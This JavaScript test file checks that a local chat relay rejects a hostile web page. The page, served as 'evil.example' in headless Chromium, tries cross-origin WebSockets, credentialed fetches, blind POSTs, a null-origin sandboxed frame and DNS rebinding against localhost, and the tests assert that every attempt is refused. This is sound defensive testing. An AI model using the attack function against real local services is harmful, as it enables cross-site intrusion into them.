/** A web page of somebody else, in a real browser: it must reach no room, however it asks. */
import assert from "node:assert/strict";
import { rmSync } from "node:fs";
import { createServer } from "node:http";
import { connect } from "node:net";
import { after, before, describe, test } from "node:test";
import { end, freePort, programs, scratch, start, until } from "./window.mjs";

/** The page's own host name: the browser is told that it is this computer. */
const ELSEWHERE = "evil.example";
/** A name that first was the page's and then became the relay's: DNS rebinding. */
const REBOUND = "rebound.example";

/** What the page tries. Runs in the browser; what came of it is sent to the page's own server. */
function attack(port) {
  const targets = [`127.0.0.1:${port}`, `localhost:${port}`, `rebound.example:${port}`];
  const socket = (scheme, target, protocols) =>
    new Promise((done) => {
      const tried = new WebSocket(`${scheme}://${target}/ws`, protocols);
      tried.onopen = () => done("open");
      tried.onmessage = () => done("message");
      tried.onerror = () => done("refused");
    });
  const fetched = (url, options) =>
    fetch(url, options).then(
      async (answer) => (answer.type === "opaque" ? "opaque" : `read ${await answer.text()}`),
      () => "refused",
    );
  const all = targets.flatMap((target) => [
    [`ws ${target}`, socket("ws", target, ["chatspot.v1"])],
    [`ws ${target} without a protocol`, socket("ws", target)],
    [`wss ${target}`, socket("wss", target, ["chatspot.v1"])],
    [`fetch ${target}`, fetched(`http://${target}/rooms`)],
    [
      `fetch ${target} with credentials`,
      fetched(`http://${target}/rooms`, { credentials: "include" }),
    ],
    [`post ${target}`, fetched(`http://${target}/rooms`, { method: "POST", body: "{}" })],
    [
      `post ${target} blindly`,
      fetched(`http://${target}/ws`, { method: "POST", mode: "no-cors", body: "x" }),
    ],
  ]);
  const form = document.createElement("form");
  form.method = "post";
  form.action = `http://127.0.0.1:${port}/rooms`;
  form.target = "frame";
  const frame = document.createElement("iframe");
  frame.name = "frame";
  document.body.append(frame, form);
  form.submit();
  // A page in a frame without an origin of its own: `Origin: null`.
  const sandbox = document.createElement("iframe");
  sandbox.sandbox = "allow-scripts";
  const nowhere = new Promise((done) => {
    addEventListener("message", ({ data }) => done(data), { once: true });
  });
  // In one piece it would be the end of the script that this stands in.
  const end = ["</", "script>"].join("");
  sandbox.srcdoc = `<script>
    const tried = new WebSocket("ws://127.0.0.1:${port}/ws", ["chatspot.v1"]);
    tried.onopen = () => parent.postMessage("open", "*");
    tried.onerror = () => parent.postMessage("refused", "*");
  ${end}`;
  document.body.append(sandbox);
  all.push(["ws from a page of no origin", nowhere]);
  Promise.all(all.map(async ([what, tried]) => [what, await tried])).then((results) =>
    fetch("/results", { method: "POST", body: JSON.stringify(results) }),
  );
}

describe("a web page of somebody else", () => {
  let relay;
  let port;
  let pages;
  let results;

  before(async () => {
    port = await freePort();
    const folder = scratch("page-relay");
    const args = [
      "--listen",
      "127.0.0.1",
      "--port",
      `${port}`,
      "--room",
      "Lab",
      "--data-dir",
      folder,
    ];
    // With plain HTTP on and the room open to everybody here: the page's origin alone keeps it out.
    relay = start(programs.relay, [...args, "--plain", "--admission", "open"]);
    await until("the relay to listen", () => relay.log.includes("listens on port"));
    const told = new Promise((done) => {
      pages = createServer((request, response) => {
        if (request.method !== "POST") {
          response.setHeader("Content-Type", "text/html");
          response.end(`<!doctype html><body><script>(${attack})(${port})</script></body>`);
          return;
        }
        let body = "";
        request.on("data", (piece) => {
          body += piece;
        });
        request.on("end", () => {
          response.end();
          done(JSON.parse(body));
        });
      });
    });
    await new Promise((done) => pages.listen(0, "127.0.0.1", done));
    const profile = scratch("page-profile");
    const browser = start("chromium", [
      "--headless=new",
      "--no-sandbox",
      "--disable-gpu",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      `--user-data-dir=${profile}`,
      `--host-resolver-rules=MAP ${ELSEWHERE} 127.0.0.1, MAP ${REBOUND} 127.0.0.1`,
      "--remote-debugging-port=0",
      `http://${ELSEWHERE}:${pages.address().port}/`,
    ]);
    let waited;
    const silence = new Promise((_, failed) => {
      waited = setTimeout(
        () => failed(new Error(`the page told nothing:\n${browser.log}`)),
        60_000,
      );
    });
    results = await Promise.race([told, silence]).finally(() => clearTimeout(waited));
    await end(browser);
    rmSync(profile, { recursive: true, force: true });
  });
  after(async () => {
    pages?.close();
    pages?.closeAllConnections();
    if (relay) await end(relay);
  });

  test("f05 f06 f07 opens no socket and reads nothing", () => {
    assert.equal(results.length, 22, "everything was tried");
    for (const [what, came] of results) {
      // What is blind is sent by any browser, and answered to nobody.
      const allowed = what.includes("blindly") ? ["refused", "opaque"] : ["refused"];
      assert.ok(allowed.includes(came), `${what}: ${came}`);
    }
    assert.match(relay.log, new RegExp(ELSEWHERE), "the relay's log names the page");
    assert.match(relay.log, /421/, "and says that it is not the host that was asked for");
  });

  test("the relay's own names and programs still reach it", async () => {
    const answer = (host, path, more = "") =>
      new Promise((done, failed) => {
        const socket = connect(port, "127.0.0.1", () =>
          socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}\r\n`),
        );
        let text = "";
        socket.on("data", (piece) => {
          text += piece;
          if (text.includes("\r\n\r\n")) socket.end();
        });
        socket.on("close", () => done(text.split("\r\n")[0]));
        socket.on("error", failed);
      });
    const upgrade =
      "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n";
    assert.match(await answer(`127.0.0.1:${port}`, "/health"), / 200 /);
    assert.match(await answer(`localhost:${port}`, "/ws", upgrade), / 101 /);
    assert.match(await answer(`${REBOUND}:${port}`, "/ws", upgrade), / 421 /);
    assert.match(
      await answer(`127.0.0.1:${port}`, "/ws", `${upgrade}Origin: http://${ELSEWHERE}\r\n`),
      / 403 /,
    );
  });
});
